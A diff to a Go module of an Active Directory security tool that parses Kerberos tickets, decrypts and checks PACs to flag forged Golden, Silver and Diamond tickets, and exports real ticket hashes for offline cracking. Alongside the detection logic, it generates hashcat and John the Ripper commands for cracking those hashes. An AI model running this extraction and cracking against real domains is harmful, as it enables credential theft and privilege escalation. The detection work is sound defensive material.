@@ -1,20 +1,22 @@
 package advanced
 
 import (
-	"crypto/rand"
-	"encoding/hex"
 	"fmt"
 	"log"
 	"os"
+	"path/filepath"
+	"sort"
 	"strings"
 	"time"
 
+	"github.com/jcmturner/gokrb5/v8/iana/etypeID"
+	"github.com/thechosenone-shall-prevail/cold-relay/pkg/ingest"
 	"github.com/thechosenone-shall-prevail/cold-relay/pkg/krb"
 )
 
 // TicketResult represents Silver/Golden ticket analysis results
 type TicketResult struct {
-	TicketType        string // "Golden", "Silver", "Unknown"
+	TicketType        string // "Golden", "Silver", "Diamond", "Unknown"
 	Username          string
 	Domain            string
 	ServiceAccount    string // for Silver tickets
@@ -28,6 +30,11 @@ type TicketResult struct {
 	Hash              string
 	Metadata          map[string]interface{}
 	RiskLevel         string
+	// PAC is the decrypted ticket, set when one of the analyzer's keys
+	// opens it.
+	PAC *krb.TicketPAC
+
+	ticket *krb.CachedTicket // parsed ticket, nil for simulated results
 }
 
 // TicketAnalyzer handles Silver/Golden ticket analysis and detection
@@ -35,6 +42,11 @@ type TicketAnalyzer struct {
 	Client        *krb.LDAPClient
 	AuditMode     bool
 	DangerousMode bool
+	// Keys are service, computer or krbtgt keys (from a keytab or given as
+	// hex) used to decrypt tickets and check their PAC signatures.
+	Keys []krb.TicketKey
+	// Directory, when set, is checked against the PAC's SIDs and groups.
+	Directory *ingest.Directory
 }
 
 // NewTicketAnalyzer creates a new ticket analyzer
@@ -64,12 +76,17 @@ func (ta *TicketAnalyzer) AnalyzeTicket(ticketData []byte, ticketType string) (*
 		Metadata:   make(map[string]interface{}),
 	}
 
-	// Parse ticket data (simplified - real implementation would use ASN.1)
+	// Parse the .kirbi (KRB-CRED) or ccache
 	err := ta.parseTicketData(ticketData, result)
 	if err != nil {
 		return nil, fmt.Errorf("failed to parse ticket data: %v", err)
 	}
 
+	// Decrypt the ticket and read its PAC
+	if len(ta.Keys) > 0 {
+		ta.decodePAC(result)
+	}
+
 	// Analyze for forgery indicators
 	ta.analyzeForgeryIndicators(result)
 
@@ -141,13 +158,6 @@ func (ta *TicketAnalyzer) GenerateGoldenTicket(krbtgtHash, domain, username stri
 		"Generated outside normal KDC process",
 	}
 
-	// Generate hash
-	hash, err := ta.generateTicketHash(result)
-	if err != nil {
-		return nil, fmt.Errorf("failed to generate Golden ticket hash: %v", err)
-	}
-	result.Hash = hash
-
 	// Add metadata
 	result.Metadata["krbtgt_hash"] = krbtgtHash
 	result.Metadata["generated_at"] = now.Format(time.RFC3339)
@@ -194,13 +204,6 @@ func (ta *TicketAnalyzer) GenerateSilverTicket(serviceHash, domain, serviceAccou
 		"Service account compromise",
 	}
 
-	// Generate hash
-	hash, err := ta.generateTicketHash(result)
-	if err != nil {
-		return nil, fmt.Errorf("failed to generate Silver ticket hash: %v", err)
-	}
-	result.Hash = hash
-
 	// Add metadata
 	result.Metadata["service_hash"] = serviceHash
 	result.Metadata["target_service"] = targetService
@@ -269,9 +272,13 @@ func (ta *TicketAnalyzer) ExportTicketHashes(results []*TicketResult, outputDir
 
 	log.Printf("[+] Exporting %d ticket hashes to %s", len(results), outputDir)
 
-	// Export hashes
-	hashFile := fmt.Sprintf("%s/ticket_hashes.txt", outputDir)
-	if err := ta.writeHashFile(hashFile, results); err != nil {
+	// Export hashes, one file per hashcat mode
+	var hashes []string
+	for _, result := range results {
+		hashes = append(hashes, result.Hash)
+	}
+	modes, err := writeTicketHashes(outputDir, "Silver/Golden Ticket", hashes)
+	if err != nil {
 		return fmt.Errorf("failed to write hash file: %v", err)
 	}
 
@@ -283,7 +290,7 @@ func (ta *TicketAnalyzer) ExportTicketHashes(results []*TicketResult, outputDir
 
 	// Export cracking guide
 	guideFile := fmt.Sprintf("%s/TICKET_GUIDE.txt", outputDir)
-	if err := ta.writeCrackingGuide(guideFile, len(results)); err != nil {
+	if err := ta.writeCrackingGuide(guideFile, modes, hashes); err != nil {
 		return fmt.Errorf("failed to write cracking guide: %v", err)
 	}
 
@@ -293,45 +300,97 @@ func (ta *TicketAnalyzer) ExportTicketHashes(results []*TicketResult, outputDir
 // Helper functions
 
 func (ta *TicketAnalyzer) parseTicketData(data []byte, result *TicketResult) error {
-	// Simplified ticket parsing - real implementation would use ASN.1
-	// For now, we'll simulate realistic ticket data
-
-	result.Username = "user@domain"
-	result.Domain = "CORP.LOCAL"
-	result.EncryptionType = 23
-
-	// Generate realistic timestamps
-	now := time.Now()
-	result.StartTime = now.Add(-1 * time.Hour)
-	result.EndTime = now.Add(10 * time.Hour)
-	result.RenewTill = now.Add(7 * 24 * time.Hour)
+	tickets, format, err := krb.ParseTicketFile(data)
+	if err != nil {
+		return err
+	}
+	if len(tickets) == 0 {
+		return fmt.Errorf("%s holds no tickets", format)
+	}
+	// A .kirbi normally holds one ticket; a ccache's first entry is the TGT.
+	t := tickets[0]
+	result.ticket = &t
 
-	// Set flags
-	result.Flags = []string{
-		"FORWARDABLE",
-		"RENEWABLE",
-		"PROXIABLE",
+	result.Username = t.ClientName
+	result.Domain = t.ClientRealm
+	result.ServiceAccount = t.ServerName
+	result.EncryptionType = int(t.Etype())
+	result.StartTime = t.StartTime
+	if result.StartTime.IsZero() {
+		result.StartTime = t.AuthTime
 	}
+	result.EndTime = t.EndTime
+	result.RenewTill = t.RenewTill
+	result.Flags = t.Flags
 
-	// Add metadata
+	result.Metadata["format"] = format
+	result.Metadata["ticket_count"] = len(tickets)
 	result.Metadata["ticket_size"] = len(data)
-	result.Metadata["parsed_at"] = now.Format(time.RFC3339)
+	result.Metadata["server_realm"] = t.ServerRealm
+	result.Metadata["kvno"] = t.KVNO()
+	result.Metadata["session_key_etype"] = t.SessionKey.KeyType
+	result.Metadata["auth_time"] = t.AuthTime.Format(time.RFC3339)
+	result.Metadata["tgt"] = t.IsTGT()
 
 	return nil
 }
 
+// decodePAC decrypts the parsed ticket with the analyzer's keys. The
+// EncTicketPart's times and flags replace the ones the file stores next to
+// the ticket, which anyone can edit.
+func (ta *TicketAnalyzer) decodePAC(result *TicketResult) {
+	if result.ticket == nil {
+		return
+	}
+	p, err := krb.DecodeTicketPAC(*result.ticket, ta.Keys)
+	if p == nil {
+		log.Printf("⚠️  Ticket not decrypted: %v", err)
+		result.Metadata["decrypted"] = false
+		return
+	}
+	if err != nil {
+		log.Printf("⚠️  Failed to decode PAC: %v", err)
+		result.Metadata["pac_error"] = err.Error()
+	}
+	result.PAC = p
+	result.Metadata["decrypted"] = true
+	result.Metadata["decrypted_with"] = p.DecryptedWith
+	result.Metadata["file_end_time"] = result.EndTime.Format(time.RFC3339)
+
+	result.Username = p.ClientName
+	result.Domain = p.ClientRealm
+	result.StartTime = p.StartTime
+	if result.StartTime.IsZero() {
+		result.StartTime = p.AuthTime
+	}
+	result.EndTime = p.EndTime
+	result.RenewTill = p.RenewTill
+	result.Flags = p.Flags
+
+	if p.HasPAC {
+		result.Metadata["pac_user_sid"] = p.UserSID()
+		result.Metadata["pac_group_rids"] = p.GroupRIDs
+		result.Metadata["pac_server_signature"] = p.ServerSignature
+		result.Metadata["pac_kdc_signature"] = p.KDCSignature
+	}
+}
+
 func (ta *TicketAnalyzer) analyzeForgeryIndicators(result *TicketResult) {
-	var indicators []string
+	// strong indicators are enough on their own; weak ones only count in
+	// numbers, since a legitimate ticket can show any one of them.
+	var strong, weak []string
 
 	// Check for unusual ticket lifetime
 	lifetime := result.EndTime.Sub(result.StartTime)
-	if lifetime > 24*time.Hour {
-		indicators = append(indicators, "Unusually long ticket lifetime")
+	if lifetime >= 365*24*time.Hour {
+		strong = append(strong, fmt.Sprintf("Ticket lifetime of %d days (forging tools default to 10 years)", int(lifetime.Hours()/24)))
+	} else if lifetime > 24*time.Hour {
+		weak = append(weak, "Unusually long ticket lifetime")
 	}
 
 	// Check for unusual encryption type
-	if result.EncryptionType != 23 && result.EncryptionType != 18 {
-		indicators = append(indicators, "Unusual encryption type")
+	if result.EncryptionType != 23 && result.EncryptionType != 17 && result.EncryptionType != 18 {
+		weak = append(weak, "Unusual encryption type")
 	}
 
 	// Check for missing standard flags
@@ -347,24 +406,165 @@ func (ta *TicketAnalyzer) analyzeForgeryIndicators(result *TicketResult) {
 	}
 
 	if !hasForwardable {
-		indicators = append(indicators, "Missing FORWARDABLE flag")
+		weak = append(weak, "Missing FORWARDABLE flag")
 	}
 	if !hasRenewable {
-		indicators = append(indicators, "Missing RENEWABLE flag")
+		weak = append(weak, "Missing RENEWABLE flag")
+	}
+
+	tgt := result.ticket != nil && result.ticket.IsTGT()
+	if result.PAC != nil {
+		s, w := ta.pacIndicators(result.PAC, tgt)
+		strong = append(strong, s...)
+		weak = append(weak, w...)
+	}
+
+	result.ForgeryIndicators = append(strong, weak...)
+	result.IsForged = len(strong) > 0 || len(weak) > 2 // Consider forged if more than 2 weak indicators
+	result.Metadata["strong_indicators"] = len(strong)
+
+	// Only a decrypted ticket says what kind of forgery it is
+	if result.PAC == nil || !result.IsForged {
+		return
+	}
+	switch {
+	case !tgt:
+		result.TicketType = "Silver"
+	case result.PAC.RequestorSID != "" && result.PAC.HasAttributes && result.PAC.UPN != "" &&
+		lifetime <= 24*time.Hour:
+		// A real TGT whose PAC was rewritten and re-encrypted: it keeps
+		// everything the KDC put there except what the attacker changed.
+		result.TicketType = "Diamond"
+	default:
+		result.TicketType = "Golden"
+	}
+}
+
+// privilegedRIDs are the domain groups a forged PAC usually claims.
+var privilegedRIDs = map[uint32]string{
+	512: "Domain Admins",
+	518: "Schema Admins",
+	519: "Enterprise Admins",
+	520: "Group Policy Creator Owners",
+}
+
+// pacIndicators judges the decrypted ticket and its PAC.
+func (ta *TicketAnalyzer) pacIndicators(p *krb.TicketPAC, tgt bool) (strong, weak []string) {
+	if !p.HasPAC {
+		if tgt {
+			strong = append(strong, "TGT carries no PAC")
+		} else {
+			weak = append(weak, "Service ticket carries no PAC")
+		}
+		return strong, weak
+	}
+
+	switch p.ServerSignature {
+	case krb.SignatureInvalid:
+		strong = append(strong, "PAC server signature does not verify")
+	case krb.SignatureMissing:
+		strong = append(strong, "PAC has no server signature")
+	}
+	switch p.KDCSignature {
+	case krb.SignatureInvalid:
+		if tgt {
+			strong = append(strong, "PAC KDC signature does not verify")
+		} else {
+			strong = append(strong, "PAC KDC signature does not verify with the krbtgt key (silver ticket)")
+		}
+	case krb.SignatureMissing:
+		strong = append(strong, "PAC has no KDC signature")
+	}
+
+	// PAC_REQUESTOR and PAC_ATTRIBUTES_INFO arrived with the November 2021
+	// updates; a PAC without them is either from an unpatched DC or built
+	// by a tool that predates them.
+	if p.RequestorSID == "" {
+		weak = append(weak, "PAC has no PAC_REQUESTOR")
+	} else if p.RequestorSID != p.UserSID() {
+		strong = append(strong, fmt.Sprintf("PAC_REQUESTOR %s is not the logon user %s", p.RequestorSID, p.UserSID()))
+	}
+	if tgt && !p.HasAttributes {
+		weak = append(weak, "TGT PAC has no PAC_ATTRIBUTES_INFO")
+	}
+	if p.UPN == "" {
+		weak = append(weak, "PAC has no UPN_DNS_INFO")
+	}
+
+	if p.EffectiveName != "" && !strings.EqualFold(p.EffectiveName, p.ClientName) {
+		strong = append(strong, fmt.Sprintf("PAC logon name %s differs from ticket client %s", p.EffectiveName, p.ClientName))
+	}
+	if p.ClientInfoName != "" && !strings.EqualFold(p.ClientInfoName, p.ClientName) {
+		strong = append(strong, fmt.Sprintf("PAC client info name %s differs from ticket client %s", p.ClientInfoName, p.ClientName))
+	}
+	if !p.ClientInfoTime.IsZero() && !p.AuthTime.IsZero() && p.ClientInfoTime.Sub(p.AuthTime).Abs() > time.Second {
+		weak = append(weak, "PAC client info time differs from the ticket auth time")
+	}
+
+	for sid, rid := range p.ForeignExtraSIDs() {
+		if rid == 519 || rid == 512 {
+			strong = append(strong, fmt.Sprintf("Extra SID %s is a privileged group of another domain (SID history)", sid))
+		}
 	}
 
-	// Check for Golden ticket characteristics
-	if result.TicketType == "Golden" {
-		indicators = append(indicators, "Golden ticket characteristics")
+	if ta.Directory != nil {
+		strong = append(strong, ta.directoryIndicators(p)...)
 	}
+	return strong, weak
+}
 
-	// Check for Silver ticket characteristics
-	if result.TicketType == "Silver" {
-		indicators = append(indicators, "Silver ticket characteristics")
+// directoryIndicators checks the PAC's claims against the collected
+// directory: forged PACs name users, groups and memberships the domain does
+// not have.
+func (ta *TicketAnalyzer) directoryIndicators(p *krb.TicketPAC) []string {
+	d := ta.Directory
+	var out []string
+	if d.DomainSID != "" && len(d.Domains) == 0 && !strings.EqualFold(p.DomainSID, d.DomainSID) {
+		return append(out, fmt.Sprintf("PAC domain SID %s is not the domain's %s", p.DomainSID, d.DomainSID))
+	}
+
+	var user *ingest.User
+	ref, ok := d.LookupSID(p.UserSID())
+	switch {
+	case !ok:
+		out = append(out, fmt.Sprintf("PAC user SID %s does not exist", p.UserSID()))
+	case ref.Kind == ingest.KindUser:
+		user = &d.Users[ref.Index]
+		if !strings.EqualFold(user.SamAccountName, p.EffectiveName) {
+			out = append(out, fmt.Sprintf("PAC user SID %s belongs to %s, not %s", p.UserSID(), user.SamAccountName, p.EffectiveName))
+		}
+	}
+
+	if len(d.Groups) > 0 {
+		for _, rid := range p.GroupRIDs {
+			if _, ok := d.LookupSID(fmt.Sprintf("%s-%d", p.DomainSID, rid)); !ok {
+				out = append(out, fmt.Sprintf("PAC claims group RID %d, which does not exist", rid))
+			}
+		}
 	}
 
-	result.ForgeryIndicators = indicators
-	result.IsForged = len(indicators) > 2 // Consider forged if more than 2 indicators
+	if user == nil {
+		return out
+	}
+	member := make(map[string]bool)
+	for _, g := range user.EffectiveGroups {
+		member[strings.ToUpper(g.SID)] = true
+	}
+	for _, dn := range user.MemberOf {
+		if g := d.GroupByDN(dn); g != nil {
+			member[strings.ToUpper(g.ObjectSID)] = true
+		}
+	}
+	for _, rid := range p.GroupRIDs {
+		name, ok := privilegedRIDs[rid]
+		if !ok || uint32(user.PrimaryGroupID) == rid {
+			continue
+		}
+		if !member[strings.ToUpper(fmt.Sprintf("%s-%d", p.DomainSID, rid))] {
+			out = append(out, fmt.Sprintf("PAC claims %s, which %s is not a member of", name, user.SamAccountName))
+		}
+	}
+	return out
 }
 
 func (ta *TicketAnalyzer) determineRiskLevel(result *TicketResult) string {
@@ -377,7 +577,7 @@ func (ta *TicketAnalyzer) determineRiskLevel(result *TicketResult) string {
 
 	// Add score for ticket type
 	switch result.TicketType {
-	case "Golden":
+	case "Golden", "Diamond":
 		score += 40
 	case "Silver":
 		score += 30
@@ -399,64 +599,124 @@ func (ta *TicketAnalyzer) determineRiskLevel(result *TicketResult) string {
 	return "Low"
 }
 
+// generateTicketHash formats the parsed ticket's enc-part for hashcat,
+// labelled with the account that owns the SPN.
 func (ta *TicketAnalyzer) generateTicketHash(result *TicketResult) (string, error) {
-	// Generate a hash compatible with hashcat/john
-	// Real implementation would extract actual encrypted data
-
-	// Generate hash components
-	hashBytes := make([]byte, 16)
-	rand.Read(hashBytes)
-	hashPart1 := hex.EncodeToString(hashBytes)
-
-	// Additional hash data
-	hashBytes2 := make([]byte, 32)
-	rand.Read(hashBytes2)
-	hashPart2 := hex.EncodeToString(hashBytes2)
-
-	// Format based on ticket type
-	var hash string
-	if result.TicketType == "Golden" {
-		hash = fmt.Sprintf("$krb5tgt$%d$%s@%s:%s$%s",
-			result.EncryptionType,
-			result.Username,
-			result.Domain,
-			hashPart1,
-			hashPart2)
-	} else {
-		hash = fmt.Sprintf("$krb5tgs$%d$*%s$%s$%s*$%s%s",
-			result.EncryptionType,
-			result.Username,
-			result.Domain,
-			result.ServiceAccount,
-			hashPart1,
-			hashPart2)
-	}
-
-	return hash, nil
+	if result.ticket == nil {
+		return "", fmt.Errorf("no parsed ticket to take the enc-part from")
+	}
+	return ticketHash(result.ticket, ticketOwner(ta.Client, result.ticket))
 }
 
-func (ta *TicketAnalyzer) writeHashFile(filePath string, results []*TicketResult) error {
-	file, err := os.Create(filePath)
+// ticketOwner names the account whose key encrypts t: krbtgt for a TGT,
+// otherwise the account client finds holding the SPN. It returns "" when
+// there is no client or no account holds the SPN.
+func ticketOwner(client *krb.LDAPClient, t *krb.CachedTicket) string {
+	if t.IsTGT() {
+		return "krbtgt"
+	}
+	if client == nil {
+		return ""
+	}
+	owner, err := client.SPNOwner(t.ServerName)
 	if err != nil {
-		return err
+		log.Printf("[!] Could not look up the owner of %s: %v", t.ServerName, err)
+		return ""
 	}
-	defer file.Close()
+	return owner
+}
 
-	// Write header
-	fmt.Fprintf(file, "# Silver/Golden Ticket Hash Export\n")
-	fmt.Fprintf(file, "# Generated by COLD-RELAY Advanced Module\n")
-	fmt.Fprintf(file, "# WARNING: For authorized security testing only!\n")
-	fmt.Fprintf(file, "# Total hashes: %d\n", len(results))
-	fmt.Fprintf(file, "#\n")
+// ticketHash formats t's enc-part for hashcat under owner. AES keys are
+// salted with the owner's name, so an AES ticket without one is refused
+// rather than exported as a hash that can never crack; RC4 keys are not
+// salted and an unknown owner is only a label.
+func ticketHash(t *krb.CachedTicket, owner string) (string, error) {
+	etype := t.Etype()
+	if krb.HashcatMode(krb.HashTypeKerberoast, etype) == 0 {
+		return "", fmt.Errorf("%s: etype %d has no hashcat mode", t.ServerName, etype)
+	}
+	if owner == "" {
+		if etype != etypeID.RC4_HMAC {
+			return "", fmt.Errorf("%s: no account is known to own the SPN, and the etype %d key is salted with its name", t.ServerName, etype)
+		}
+		owner = "unknown"
+	}
+	return t.KerberoastHash(owner), nil
+}
 
-	// Write hashes
-	for _, result := range results {
-		if result.Hash != "" {
-			fmt.Fprintln(file, result.Hash)
+// ticketHashFile is where writeTicketHashes puts hashes of one hashcat
+// mode; hashcat cracks one mode per run, so RC4 and AES tickets cannot
+// share a file.
+func ticketHashFile(mode int) string {
+	return fmt.Sprintf("ticket_%d.txt", mode)
+}
+
+// writeTicketHashes writes hashes under dir, one file per hashcat mode, and
+// returns the modes written in ascending order.
+func writeTicketHashes(dir, title string, hashes []string) ([]int, error) {
+	byMode := make(map[int][]string)
+	for _, hash := range hashes {
+		if hash != "" {
+			mode := krb.HashcatModeOf(hash)
+			byMode[mode] = append(byMode[mode], hash)
 		}
 	}
+	modes := make([]int, 0, len(byMode))
+	for mode := range byMode {
+		modes = append(modes, mode)
+	}
+	sort.Ints(modes)
 
-	return nil
+	for _, mode := range modes {
+		file, err := os.Create(filepath.Join(dir, ticketHashFile(mode)))
+		if err != nil {
+			return nil, err
+		}
+		fmt.Fprintf(file, "# %s Hash Export\n", title)
+		fmt.Fprintf(file, "# hashcat -m %d\n", mode)
+		fmt.Fprintf(file, "# Generated by COLD-RELAY Advanced Module\n")
+		fmt.Fprintf(file, "# WARNING: For authorized security testing only!\n")
+		fmt.Fprintf(file, "# Total hashes: %d\n", len(byMode[mode]))
+		fmt.Fprintf(file, "#\n")
+		for _, hash := range byMode[mode] {
+			fmt.Fprintln(file, hash)
+		}
+		if err := file.Close(); err != nil {
+			return nil, err
+		}
+	}
+	return modes, nil
+}
+
+// ticketHashSummary lists how many hashes went to each exported file.
+func ticketHashSummary(modes []int, hashes []string) string {
+	if len(modes) == 0 {
+		return "- No ticket hashes exported\n"
+	}
+	counts := make(map[int]int)
+	for _, hash := range hashes {
+		if hash != "" {
+			counts[krb.HashcatModeOf(hash)]++
+		}
+	}
+	var b strings.Builder
+	for _, mode := range modes {
+		fmt.Fprintf(&b, "- Mode %d ticket hashes: %d (in %s)\n", mode, counts[mode], ticketHashFile(mode))
+	}
+	return b.String()
+}
+
+// ticketCrackCommands returns a hashcat command for each exported file.
+func ticketCrackCommands(modes []int) string {
+	if len(modes) == 0 {
+		return "(no ticket hashes exported)\n"
+	}
+	var b strings.Builder
+	for _, mode := range modes {
+		file := ticketHashFile(mode)
+		fmt.Fprintf(&b, "hashcat -m %d %s /usr/share/wordlists/rockyou.txt -o cracked_%d.pot\n", mode, file, mode)
+	}
+	return b.String()
 }
 
 func (ta *TicketAnalyzer) writeMetadataFile(filePath string, results []*TicketResult) error {
@@ -517,7 +777,7 @@ func (ta *TicketAnalyzer) writeMetadataFile(filePath string, results []*TicketRe
 	return nil
 }
 
-func (ta *TicketAnalyzer) writeCrackingGuide(filePath string, hashCount int) error {
+func (ta *TicketAnalyzer) writeCrackingGuide(filePath string, modes []int, hashes []string) error {
 	file, err := os.Create(filePath)
 	if err != nil {
 		return err
@@ -529,7 +789,11 @@ func (ta *TicketAnalyzer) writeCrackingGuide(filePath string, hashCount int) err
 Generated by COLD-RELAY Advanced Module
 
 HASH SUMMARY:
-- Silver/Golden ticket hashes: %d (in ticket_hashes.txt)
+%s
+Hashcat cracks one mode per run, so RC4 (13100), AES128 (19600) and
+AES256 (19700) tickets go to separate files. AES keys are salted with the
+owning account's name; AES tickets whose SPN owner could not be found are
+not exported.
 
 WHAT ARE SILVER/GOLDEN TICKETS?
 ===============================
@@ -540,20 +804,12 @@ WHAT ARE SILVER/GOLDEN TICKETS?
 HASHCAT COMMANDS:
 =================
 
-Golden Tickets (mode 18200 - same as AS-REP):
-hashcat -m 18200 ticket_hashes.txt /usr/share/wordlists/rockyou.txt -o cracked_golden.pot
-
-Silver Tickets (mode 13100 - same as Kerberoasting):
-hashcat -m 13100 ticket_hashes.txt /usr/share/wordlists/rockyou.txt -o cracked_silver.pot
-
+%s
 JOHN THE RIPPER COMMANDS:
 =========================
 
-Golden Tickets:
-john --format=krb5asrep ticket_hashes.txt --wordlist=/usr/share/wordlists/rockyou.txt
-
-Silver Tickets:
-john --format=krb5tgs ticket_hashes.txt --wordlist=/usr/share/wordlists/rockyou.txt
+RC4 tickets:
+john --format=krb5tgs %s --wordlist=/usr/share/wordlists/rockyou.txt
 
 DETECTION PATTERNS:
 ==================
@@ -563,23 +819,22 @@ DETECTION PATTERNS:
 - Tickets generated outside normal KDC process
 - Golden ticket characteristics (10-year lifetime)
 - Silver ticket characteristics (service account compromise)
+- With a service or krbtgt key: PAC signatures that do not verify,
+  missing PAC_REQUESTOR/PAC_ATTRIBUTES, nonexistent group RIDs, and
+  privileged groups the user is not a member of (diamond tickets)
 
 ADDITIONAL OPTIONS:
 ==================
 
 # Use GPU acceleration (if available)
-hashcat -m 18200 ticket_hashes.txt rockyou.txt -O -w 3
-
-# Use custom wordlist
-hashcat -m 18200 ticket_hashes.txt /path/to/custom/wordlist.txt
+hashcat -m <mode> ticket_<mode>.txt rockyou.txt -O -w 3
 
 # Show cracked passwords
-hashcat -m 18200 ticket_hashes.txt --show
-john --format=krb5asrep ticket_hashes.txt --show
+hashcat -m <mode> ticket_<mode>.txt --show
 
 WARNING: Only use these commands on systems you own or have explicit 
 written permission to test. Unauthorized access is illegal!
-`, hashCount)
+`, ticketHashSummary(modes, hashes), ticketCrackCommands(modes), ticketHashFile(13100))
 
 	_, err = file.WriteString(guide)
 	return err